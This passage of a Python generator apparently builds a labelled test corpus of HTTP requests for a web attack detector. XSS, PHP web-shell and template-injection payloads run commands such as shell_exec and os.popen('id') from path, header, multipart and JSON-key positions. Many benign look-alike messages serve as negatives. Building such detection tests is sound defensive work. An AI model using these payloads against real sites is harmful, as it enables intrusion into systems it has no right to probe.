     "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
    ("php", "multipart_field", "caption", None, "", "<?php echo shell_exec($_GET['e']); ?>"),
    ("ssti", "multipart_field", "template", None, "", "{{ self.__init__.__globals__.__builtins__ }}"),
]

JSON_KEY_PAYLOADS: list[tuple[str, str, str]] = [
    ("xss", "json_key", "<img src=x onerror=alert(1)>"),
    ("xss", "json_key", "\"><script>alert(1)</script>"),
    ("xss", "json_key", "<svg/onload=alert(document.domain)>"),
    ("php", "json_key", "<?php system('id'); ?>"),
    ("php", "json_key", "${system('whoami')}"),
    ("ssti", "json_key", "{{7*7}}"),
    ("ssti", "json_key", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti", "json_key", "<%= `id` %>"),
]

BOUNDARY = "----WebKitFormBoundaryq7TfBmJ2cXo9KsLw"


def _multipart(uri: str, parts: list[tuple[str, str | None, str, str]]) -> dict[str, Any]:
    """A multipart/form-data POST of (field, filename or None, content type, content) parts."""
    chunks = []
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        head = f"Content-Disposition: {disp}\r\n" + (f"Content-Type: {ctype}\r\n" if ctype else "")
        chunks.append(f"--{BOUNDARY}\r\n{head}\r\n{content}\r\n")
    body = "".join(chunks) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _other_places() -> Iterator[dict[str, Any]]:
    n = 0
    for cat, sub, p in PATH_PAYLOADS:
        n += 1
        uri = "/api/pages/" + urllib.parse.quote(p, safe="") + "?preview=1"
        yield {**_get(uri), "id": f"b12-{cat}-x{n:03d}", "category": cat, "sub": sub, "placement": "path",
               "payload": p}
    for cat, sub, p in PARAM_NAME_PAYLOADS:
        n += 1
        uri = _query("/api/users", [(p, "1"), ("page", "1")])
        yield {**_get(uri), "id": f"b12-{cat}-x{n:03d}", "category": cat, "sub": sub, "placement": "param_name",
               "payload": p}
    for cat, sub, header, p in HEADER_PAYLOADS:
        n += 1
        rec = _get("/api/users?page=2")
        rec["headers"] = {**rec["headers"], header: p}
        yield {**rec, "id": f"b12-{cat}-x{n:03d}", "category": cat, "sub": sub, "placement": sub, "payload": p}
    for cat, sub, field, filename, ctype, content in MULTIPART_PAYLOADS:
        n += 1
        parts: list[tuple[str, str | None, str, str]] = [("csrf_token", None, "", "t0k3n"),
                                                          (field, filename, ctype, content)]
        payload = filename if sub == "multipart_filename" and filename is not None else content
        yield {**_multipart("/api/uploads", parts), "id": f"b12-{cat}-x{n:03d}", "category": cat, "sub": sub,
               "placement": sub, "payload": payload}
    for cat, sub, p in JSON_KEY_PAYLOADS:
        n += 1
        yield {**_json("/api/users", {"email": "a@example.org", "prefs": {p: "1"}}), "id": f"b12-{cat}-x{n:03d}",
               "category": cat, "sub": sub, "placement": "json_key", "payload": p}


def attacks() -> Iterator[dict[str, Any]]:
    """Every payload in three places (rotating, as family_gen_blind_php.attacks does), then the other places."""
    n = 0
    for family, subs in FAMILIES.items():
        i = 0
        for sub, payloads in subs.items():
            for p in payloads:
                for place, name in three_places(i, PARAMS):
                    n += 1
                    yield {**_place(place, name, p), "id": f"b12-{family}-{n:04d}", "category": family,
                           "sub": f"{family}-{sub}", "placement": place, "payload": p}
                i += 1
    yield from _other_places()


# ---------------------------------------------------------------------------------------------------------------
# Benign
# ---------------------------------------------------------------------------------------------------------------

# Feedback, reviews and support tickets with HTML-ish characters (placed in forms, JSON and queries, rotating).
FEEDBACK = [
    "Love this app <3 <3 <3",
    "Support answered in 5 minutes :) 10/10 would recommend",
    "Checkout -> payment -> confirmation took forever on mobile",
    "if a<b and b<c then a<c, so why does the sort order on the list page look random?",
    "Price went from $19.99 -> $24.99 without any notice :-(",
    "<3 the new dark mode!!",
    "I tried to paste <b>bold</b> in the description and it shows the tags literally",
    "The 'Save' button doesn't do anything on Safari >:(",
    "Great product, but the export to CSV puts \"quotes\" around every field",
    "5/5 stars. The onboarding wizard is <<so>> much better now",
    "meh... it's ok I guess ¯\\_(ツ)_/¯",
    "Please add a <select> for the timezone instead of free text",
    "It says 'Error: <unknown>' when I upload a photo larger than 5MB",
    "Tip for others: Settings > Notifications > Email > Off",
    "Ordered 2x the blue one (size M) -- arrived in 3 days!",
    "^_^ thanks for fixing the login bug",
    "Search for \"red shoes\" returns nothing but \"red shoe\" works?",
    "The font in the <h1> on the homepage is way too big on my phone",
    "x_x the app crashed again when I clicked 'Export'",
    "I give it 4/5 -- would be 5/5 if the alerts weren't so noisy",
    "Dear team, your emails render as raw HTML in Outlook (I see <table> and <td> everywhere)",
    "Script kept running in the background and drained my battery",
    "Love it! =) My kids use it every day for their homework",
    "the \"forgot password\" link goes to a 404 page :/",
    "quantity < 1 should not be allowed in the cart, I ordered 0 items and got charged shipping",
    "B+ overall. Delivery A+, packaging C-",
    "Is there a way to embed the calendar in my own website with an iframe?",
    "Why does my display name show as &amp; instead of & ?",
    "Rating: *****  Would buy again",
    "my username is <Kat> with the brackets, please don't strip them!",
    "Couldn't find the 'alert settings' page, where did it go?",
    "XOXO <3 you guys are the best",
    "Your confirm() popup on delete is great, saved me twice",
    "Review: the template gallery is nice but I wish there were more 'minimal' themes",
    "When I type {name} in the email template it doesn't get replaced",
    "Changed my plan from Pro -> Basic but still billed $49",
    ">> Please call me back, order #55231 is missing one item <<",
    "Step 1: open the app; Step 2: click Profile; Step 3: nothing happens",
    "I'd love a 'copy to clipboard' button next to the embed code",
    "The on-load animation is cute but makes the page feel slow",
    "Honestly 3 < 5 stars, because the sync keeps failing on Wi-Fi",
    "Used the coupon SAVE20 -- total went from EUR 80 to EUR 64, nice",
    "It'd be great if the editor supported <kbd>Ctrl</kbd>+<kbd>Z</kbd>",
    "Bug: typing <  in the chat box eats the next character",
    "Title of my post was \"Why I <3 Python\" and it got cut off at the heart",
    "Can you make the error message say which field is wrong? 'Invalid input' is not helpful",
    "Please support emoji in titles 🎉🔥",
    "The document title shows 'undefined - Dashboard' for a second on load",
    "Would be nice if onmouseover tooltips worked on touch screens too",
    "Great support from Anna! :-D",
    "Fix the style of the footer please, the links overlap on small screens",
    "Thanks!!! -> closing this ticket",
    "my email is j.o'neil@example.ie and the form says it's invalid because of the apostrophe",
    "Item arrived broken :'( please send a replacement",
    "The <details> sections on the FAQ page don't open on iPad",
    "We're a team of 12 => do we need the Business plan?",
    "Search results page: 'Showing 1-10 of <many>' lol",
    "The import wizard choked on my file named report_<final>.xlsx",
    "Top tip: hold Shift while clicking to select a range :)",
    "I'd rate the new UI a solid 8/10, the old one was 6/10",
    "Code samples in your docs have &lt; and &gt; instead of < and >",
    "Please let us set a custom <title> for shared dashboards",
    "Cancel button -> \"Are you sure?\" -> Yes -> still subscribed?!",
    "5* service, driver even called ahead",
    "Why do I need javascript enabled just to read the FAQ?",
    "Feature request: a ${variable} syntax for merge fields like Mailchimp has",
    "The survey asked 'How likely are you to recommend us (0-10)?' and 10 wasn't clickable",
    "My review got rejected because it had a <3 in it??",
    "Not bad. Not great. 3/5 :|",
    "It works on Chrome but on Firefox the dropdown opens off-screen",
]

EMAIL_SIGNATURES = [
    "Best regards,\nMaria Gonzalez\nSenior Front-End Engineer | Acme Corp\n+34 600 123 456\n<maria@acme.example>",
    "--\nJohn Smith <john.smith@example.com>\nSent from my iPhone",
    "Cheers,\nTom\n-- \nTom Baker | Web Developer\nhttps://tombaker.dev | @tombakerdev",
    "Kind regards / Mit freundlichen Gruessen\nDr. Anna Mueller\nHead of Digital <anna.mueller@firma.example>",
    "Thanks,\nPriya\n\n[Company Logo]\nPriya Raman | UX Designer\nT: (555) 010-2334 | priya@studio.example",
    "Regards,\nK. Tanaka\n=====================\nThis e-mail is confidential. If you are not the intended recipient"
    " please delete it.",
    "Sent from Outlook for Android\n________________________________\nFrom: Support <support@shop.example>",
    "-- \nAlex | he/him\nFull-stack dev @ Bytefarm\n\"Ship it, then fix it\"",
    "Best,\nSam\n<sam@agency.example> | 0044 20 7946 0958\nP.S. I'm out of office 24-28 June",
    "~ Lena ~\n<3 coffee, CSS and cats",
    "Warmly,\nDavid O'Connor\nTemplate Designer, ThemeForge\nwww.themeforge.example",
    "Yours sincerely,\nR. Patel (Mr)\nAccounts Dept. -- Invoice queries: invoices@corp.example",
    "Thanks!\n-J\n\n> On Mon, 3 Jun 2024 at 10:12, Support <help@app.example> wrote:\n"
    "> Hi, can you share a screenshot?",
    "Carlos Silva\nPHP / Laravel developer\nGitHub: github.com/csilva | Blog: carlos.example/blog",
    "---\nMarketing Team\nAcme Ltd., 10 High St., London\nUnsubscribe: https://acme.example/unsubscribe?u=8812",
    "Ciao,\nGiulia\nTwig & Symfony freelancer -> giulia.example",
    "All the best,\nNoah\n\nConfidentiality notice: this message & any attachments are for the named recipient only.",
    "/ Erik\nSystemutvecklare | Frontend\n<erik@bolag.example>",
    "Regards,\nSupport Team\n(ticket #A-99812 -- please keep this number in the subject line)",
    "Hugs,\nMom xoxo <3",
]

MATH_PRICES = [
    "2 < 3 and 5 > 4",
    "x^2 + y^2 = r^2",
    "$9.99/month or $99/year (save ~17%)",
    "a <= b && b >= c",
    "total = price * qty * (1 + 0.2) // VAT 20%",
    "3 * 7 = 21",
    "7*7=49",
    "EUR 1.234,56 vs USD 1,234.56",
    "100% cotton, 30°C wash",
    "5 <> 6 in SQL means not equal, right?",
    "f(x) = 1/(1+e^-x)",
    "{1, 2, 3} U {3, 4} = {1, 2, 3, 4}",
    "price range: $10 - $50",
    "1 + 1 = 2; 2 + 2 = 4",
    "n! / (k! * (n-k)!)",
    "~$200 for the pair, ~$120 for one",
    "speed > 100 km/h => warning",
    "Approx. 3.14 * r * r",
    "if (score >= 90) grade = 'A'",
    "GBP 12.50 + GBP 3.95 shipping = GBP 16.45",
    "ratio 16:9 (1920x1080)",
    "#1 best seller, 4.8/5 from 2,301 reviews",
    "10 % 3 = 1",
    "sum of 1..100 = 5050",
    "-40 C == -40 F",
    "JPY 3,000 (tax incl.)",
    "[0, 1) is half-open",
    "2^10 = 1024",
    "$5 off orders > $50",
    "mean = (a + b + c) / 3",
]

MARKDOWN = [
    "# Release notes\n\n- Fixed the login redirect\n- **New:** dark mode\n- _Removed_ legacy export",
    "## Install\n\n```bash\nnpm install --save my-widget\n```\n\nThen import it in your `main.js`.",
    "> Quote from the meeting: \"ship on Friday\"\n\n1. Review PR\n2. Merge\n3. Deploy",
    "See [the docs](https://docs.example.com/getting-started) and ![logo](https://cdn.example.com/logo.png)",
    "| Plan | Price |\n|------|-------|\n| Basic | $5 |\n| Pro | $15 |",
    "**TODO**\n- [x] write tests\n- [ ] update README\n- [ ] tag v2.1.0",
    "Use `<br>` sparingly; prefer CSS `margin-bottom`.",
    "### Template variables\n\nWrite `{{ name }}` in the subject and `{{ order.total }}` in the body.",
    "*Italic*, __bold__, ~~strike~~ and `code` all work in comments now.",
    "```html\n<button class=\"btn btn-primary\">Save</button>\n```",
    "Footnote example[^1].\n\n[^1]: This is the note.",
    "---\ntitle: My first post\ndate: 2024-05-01\ntags: [blog, web]\n---\n\nHello world!",
    "```css\n.card { border-radius: 8px; box-shadow: 0 1px 3px rgba(0,0,0,.2); }\n```",
    "1. Open **Settings**\n2. Go to *Integrations*\n3. Click `Connect Slack`",
    "<!-- TODO: add screenshots -->\n## Screenshots\n\nComing soon.",
    "```js\nconst total = items.reduce((sum, i) => sum + i.price, 0);\n```",
    "Headings: `#`, `##`, `###` -- lists: `-`, `*`, `1.`",
    "```php\n<?php\necho \"Hello, \" . htmlspecialchars($name);\n```",
    "Keyboard: <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>P</kbd>",
    "```jinja\n{% for post in posts %}\n  <h2>{{ post.title }}</h2>\n{% endfor %}\n```",
    "Note: the `onClick` prop in React is camelCase, not `onclick`.",
    "[![Build](https://ci.example.com/badge.svg)](https://ci.example.com/project)",
    "```\n$ php artisan migrate\nMigration table created successfully.\n```",
    "- Item one\n  - nested item\n    - deeper\n- Item two",
    "Table of contents:\n\n* [Intro](#intro)\n* [Usage](#usage)\n* [FAQ](#faq)",
]

# Front-end developers pasting snippets into Slack (and the same text saved as a profile bio).
DEV_CHAT = [
    "can someone review my PR? changed `<div class=\"card\" onclick=\"toggle()\">` to a proper `<button>`",
    "is `el.innerHTML = ''` ok for clearing a list or should I use `replaceChildren()`?",
    "in twig it's `{{ user.name|e }}` and autoescape is on by default anyway",
    "jinja loop: `{% for item in items %}{{ item.title }}{% endfor %}` -- why is loop.index 1-based lol",
    "```<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>```",
    "the handlebars partial is `{{> header}}` and it needs to be registered first",
    "`useEffect(() => { fetch('/api/items').then(r => r.json()).then(setItems) }, [])`",
    "CSS question: `.btn:hover { background: url('/img/bg.png') no-repeat; }` isn't showing, any idea?",
    "`<img src=\"/logo.svg\" alt=\"Acme\" width=\"120\">` -- do we still need the width attr?",
    "anyone know why `<script type=\"module\" src=\"/main.js\"></script>` 404s in prod but not locally?",
    "tip: `document.querySelectorAll('a[target=_blank]')` to find links missing rel=noopener",
    "Blade syntax: `@if($user) Hello {{ $user->name }} @endif` -- double curlies escape, `{!! !!}` doesn't",
    "ERB: `<%= link_to 'Home', root_path %>` vs `<%== raw_html %>` -- the second skips escaping",
    "`const greeting = `Hello ${user.firstName}!`;` template literals ftw",
    "in Go templates `{{range .Items}}<li>{{.Name}}</li>{{end}}` is escaped per context by html/template",
    "freemarker: `${user.name!\"anonymous\"}` gives a default when it's null",
    "Thymeleaf: `<p th:text=\"${user.name}\">placeholder</p>`",
    "smarty still exists? saw `{$title|escape}` in a legacy codebase today",
    "`<input type=\"email\" name=\"email\" required autofocus>` -- autofocus is annoying on mobile though",
    "React warns about `dangerouslySetInnerHTML` for a reason, please sanitize with DOMPurify first",
    "pug: `a(href='/about') About us` looks so clean compared to HTML",
    "Razor: `@Model.Title` and `@Html.Raw(Model.Body)` -- be careful with the second",
    "reminder: `alert()` calls left in the checkout code, please remove before the release",
    "`window.location.href = '/login?next=' + encodeURIComponent(location.pathname)`",
    "php question: `$user = $_SESSION['user'] ?? null;` -- is that fine on 7.4?",
    "`array_map(fn($x) => $x * 2, $numbers)` arrow fns in php are great",
    "Vue: `<li v-for=\"todo in todos\" :key=\"todo.id\">{{ todo.text }}</li>`",
    "Angular: `<button (click)=\"save()\" [disabled]=\"!form.valid\">Save</button>`",
    "svg icon inline: `<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 22h20z\"/></svg>`",
    "the `onload` event on `<img>` fires before decode(), use `img.decode().then(...)` instead",
    "`addEventListener('error', e => console.warn(e))` on the image fixed our broken avatar placeholders",
    "Mustache: `{{#items}}<li>{{name}}</li>{{/items}}` -- logic-less but good enough",
    "css grid: `grid-template-columns: repeat(auto-fill, minmax(200px, 1fr));` 🙌",
    "`<a href=\"mailto:support@acme.example?subject=Help\">contact</a>`",
    "`<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">` was missing, that's why",
    "PHP 8 match: `$label = match($status) { 1 => 'open', 2 => 'closed', default => 'unknown' };`",
    "`composer require guzzlehttp/guzzle` then `$client = new \\GuzzleHttp\\Client();`",
    "laravel: `return view('profile', ['user' => $user]);`",
    "`<form method=\"post\" action=\"/subscribe\">` needs the csrf field: `@csrf`",
    "JSX: `<img src={user.avatar} onError={() => setBroken(true)} />`",
    "our email template uses `{{ first_name | default: \"there\" }}` (liquid)",
    "`:root { --brand: #ff5a5f; }` then `color: var(--brand);`",
    "`@media (max-width: 600px) { .sidebar { display: none; } }`",
    "`document.cookie` is empty because the session cookie is HttpOnly, that's expected",
    "`<iframe src=\"https://www.youtube.com/embed/abc123\" allowfullscreen></iframe>` for the demo page",
    "eslint complains about `no-eval` in the old `utils.js`, can we just delete that helper?",
    "`<?= $title ?>` is the short echo tag, always enabled since 5.4",
    "python f-string: `f\"Hello {name}!\"` vs jinja `{{ name }}`, don't mix them up in the email task",
    "`<textarea rows=\"4\" placeholder=\"Write something...\"></textarea>`",
    "`<noscript>Please enable JavaScript</noscript>` lol our marketing site",
    "`JSON.parse(localStorage.getItem('cart') || '[]')`",
    "CSP question: can we drop `'unsafe-inline'` from `script-src` if we move the inline scripts out?",
    "new helper: `function escapeHtml(s) { return s.replace(/[&<>\"']/g, c => map[c]); }`",
    "`include 'partials/header.php';` -> moved to a Blade component",
    "`<select name=\"country\"><option value=\"de\">Germany</option></select>`",
    "`setTimeout(() => toast.hide(), 3000)` -- 3s feels short",
    "jinja: `{{ price | round(2) }}` and `{{ \"%.2f\"|format(price) }}` do the same",
    "`<link rel=\"preload\" href=\"/fonts/inter.woff2\" as=\"font\" crossorigin>`",
    "twig macro: `{% macro input(name, value) %}<input name=\"{{ name }}\" value=\"{{ value }}\">{% endmacro %}`",
    "`$stmt = $pdo->prepare('SELECT * FROM users WHERE id = ?'); $stmt->execute([$id]);`",
    "`<details><summary>More</summary>Hidden text</details>` works without JS",
    "Svelte: `{#each items as item}<p>{item}</p>{/each}`",
    "`export default { data() { return { msg: 'hi' } } }`",
    "`<template id=\"row\"><tr><td></td></tr></template>` + `content.cloneNode(true)`",
    "`$_POST` is empty because the request was JSON, use `json_decode(file_get_contents('php://input'), true)`",
    "Handlebars helper: `Handlebars.registerHelper('upper', s => s.toUpperCase())` then `{{upper name}}`",
    "`<video autoplay muted loop playsinline src=\"/hero.mp4\"></video>`",
    "`background-image: linear-gradient(to right, #fff, #000);`",
    "`<body class=\"{{ body_class }}\">` in base.html, override per page",
    "`fetch(url, { credentials: 'include' })` for the cookie to be sent cross-site",
    "`<? ?>` short open tags are off on the new servers, use `<?php` everywhere",
    "Go: `template.Must(template.ParseFiles(\"index.html\"))` then `tmpl.Execute(w, data)`",
    "`echo json_encode(['ok' => true]);` and set the content type header first",
    "`<svg><use href=\"#icon-star\"></use></svg>` sprite trick",
    "`str_replace('{name}', $name, $template)` is our poor man's templating 😅",
    "`ng-if=\"user.isAdmin\"` in the old AngularJS admin, we'll port it later",
    "`<button onclick=\"history.back()\">Back</button>` is fine for the 404 page",
    "`element.style.setProperty('--progress', pct + '%')`",
    "`{% include 'footer.html' %}` goes at the end of the block, not inside it",
]

DOC_URLS = [
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onerror",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/svg",
    "https://developer.mozilla.org/en-US/docs/Web/MathML",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://www.php.net/manual/en/function.include.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://www.smarty.net/docs/en/language.basic.syntax.tpl",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://guides.rubyonrails.org/action_view_overview.html",
    "https://handlebarsjs.com/guide/expressions.html",
    "https://mustache.github.io/mustache.5.html",
    "https://pugjs.org/language/interpolation.html",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://pkg.go.dev/html/template",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://github.com/cure53/DOMPurify#readme",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://example.com/search?q=%3Cscript%3E+tag+meaning&lang=en",
    "https://stackoverflow.com/questions/1234567/how-to-escape-curly-braces-in-jinja2",
]

PROSE = [
    "How do I stop Twig from escaping HTML in a variable that I trust?",
    "What is the difference between {{ }} and {% %} in Jinja templates?",
    "Why does my <script> tag at the end of body run before DOMContentLoaded?",
    "Is it safe to use innerHTML if the string comes from our own API?",
    "When should I use textContent instead of innerHTML",
    "The onerror handler on my img tag fires twice, why?",
    "How do I include a PHP file from a parent directory with require_once and __DIR__?",
    "php include vs require vs include_once difference",
    "What does the e modifier in preg_replace do and why was it removed?",
    "How to unserialize data safely in PHP 7 with allowed_classes",
    "Best way to read $_POST in a PHP 8 JSON API",
    "Template literal vs string concatenation performance in JavaScript",
    "How to use SVG icons inline with currentColor",
    "MathML support in Chrome 2024",
    "Content Security Policy nonce for inline scripts in Express",
    "How to escape curly braces in Handlebars templates",
    "Mustache vs Handlebars: which one for email templates?",
    "Thymeleaf th:utext vs th:text difference",
    "Spring expression language examples with T() operator for static methods",
    "Freemarker default value operator ! explained",
    "Velocity template #if #else #end syntax",
    "ERB trim mode <%- -%> what does the dash do",
    "Razor @Html.Raw when is it appropriate",
    "Go html/template vs text/template which escapes automatically",
    "Pug mixins with attributes and blocks",
    "Smarty 3 to 4 upgrade guide {php} tags removed",
    "how does javascript: URL work in a bookmarklet",
    "data: URLs for small images in CSS, good or bad?",
    "CSS expression() in old IE -- is it still a thing?",
    "Is eval() ever OK in JavaScript?",
    "what is mutation XSS and how does DOMPurify handle it",
    "sanitize HTML in PHP with HTML Purifier or strip_tags?",
    "allow_url_include should be Off in production, right?",
    "How do I set upload_max_filesize and post_max_size in php.ini",
    "Why is my .htaccess php_value ignored on PHP-FPM?",
    "How to check file upload MIME type in PHP with finfo",
    "Should user-uploaded SVG files be served with Content-Disposition attachment?",
    "Angular sanitization and bypassSecurityTrustHtml",
    "Vue v-html warning: only use on trusted content",
    "What is server-side template injection? Looking for a beginner explanation",
    "Where does {{7*7}} come from in security write-ups?",
    "System.Diagnostics.Process in ASP.NET Core, how to run a background job safely",
    "onclick vs addEventListener which is better",
    "how to make <details> open by default",
    "HTML entities list: &lt; &gt; &amp; &quot; &#39;",
    "Email signature HTML table layout for Outlook",
    "How to show a <3 heart emoji in plain text emails",
    "price formatting with Intl.NumberFormat in EUR and USD",
    "Markdown code fences with language hints for syntax highlighting",
    "PHP short open tag <?= vs <?php echo",
    "jinja2 autoescape true for .html templates only",
    "How to pass variables to a Twig include with 'with' keyword",
    "Laravel Blade {!! !!} vs {{ }} escaping",
    "What's the difference between $_GET, $_POST and $_REQUEST?",
    "Session fixation and session_regenerate_id in PHP",
    "Can I use style attribute with CSS variables in React?",
    "HTML5 autofocus attribute accessibility concerns",
    "iframe sandbox attribute values explained",
    "srcdoc attribute browser support",
    "How to write a Slack bot message with <@U123> mentions",
]

LINK_PREFIX = "b12-links"
CHAT_PREFIX = "b12-devchat"   # the Slack messages (ids b12-devchat-slack-NNNN) and bios (b12-devchat-bio-NNNN)


def _benign_place(k: int, text: str) -> tuple[dict[str, Any], str]:
    """Feedback-like text in one of four places, rotating: a review form, a JSON comment, a search query, a
    support ticket."""
    where = k % 4
    if where == 0:
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)]), "form"
    if where == 1:
        return _json("/api/reviews", {"product_id": 1042 + k, "rating": 1 + k % 5, "comment": text}), "json"
    if where == 2:
        return _get(_query("/api/users", [("search", text), ("page", "1")])), "query"
    return _json("/api/tickets", {"subject": "Feedback", "body": text, "email": "user@example.org"}), "json"


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    for text in FEEDBACK:
        n += 1
        rec, place = _benign_place(n, text)
        yield {**rec, "id": f"b12-feedback-{n:04d}", "category": "benign", "placement": place}
    for text in EMAIL_SIGNATURES:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "email_signature": text}), "id": f"b12-signature-{n:04d}",
               "category": "benign", "placement": "json"}
    for text in MATH_PRICES:
        n += 1
        rec, place = _benign_place(n, text)
        yield {**rec, "id": f"b12-math-{n:04d}", "category": "benign", "placement": place}
    for text in MARKDOWN:
        n += 1
        doc = {"title": "Notes", "body_markdown": text, "draft": True}
        yield {**_json("/api/posts", doc), "id": f"b12-markdown-{n:04d}", "category": "benign", "placement": "json"}
    yield from chat_and_bio(DEV_CHAT, CHAT_PREFIX)
    yield from links_and_prose(DOC_URLS, PROSE, LINK_PREFIX, 0)
    # a few benign multipart uploads and a JSON document whose keys look like template variables
    uploads: list[tuple[str, str, str]] = [
        ("avatar", "me_at_the_beach.jpg", "image/jpeg"),
        ("file", "invoice-2024-05.pdf", "application/pdf"),
        ("file", "index.php.txt", "text/plain"),
        ("attachment", "screenshot (3).png", "image/png"),
        ("attachment", "template_{{name}}_v2.docx",
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ]
    for field, filename, ctype in uploads:
        n += 1
        parts: list[tuple[str, str | None, str, str]] = [("csrf_token", None, "", "t0k3n"),
                                                          ("description", None, "", "my upload <3"),
                                                          (field, filename, ctype, "binary-ish content")]
        yield {**_multipart("/api/uploads", parts), "id": f"b12-upload-{n:04d}", "category": "benign",
               "placement": "multipart"}
    for keys in (["first_name", "last_name"], ["{{first_name}}", "{{last_name}}"], ["<b>", "</b>"]):
        n += 1
        doc = {"template": "Dear {{first_name}}", "variables": dict.fromkeys(keys, "x")}
        yield {**_json("/api/email-templates", doc), "id": f"b12-tplvars-{n:04d}", "category": "benign",
               "placement": "json"}


def _check() -> None:
    """Payloads are distinct within each family; the records are well-formed JSON where they claim to be."""
    for family, subs in FAMILIES.items():
        flat = [p for ps in subs.values() for p in ps]
        assert len(flat) == len(set(flat)), family
    for rec in list(attacks()) + list(benign()):
        if rec["headers"].get("Content-Type") == "application/json":
            json.loads(rec["body"])
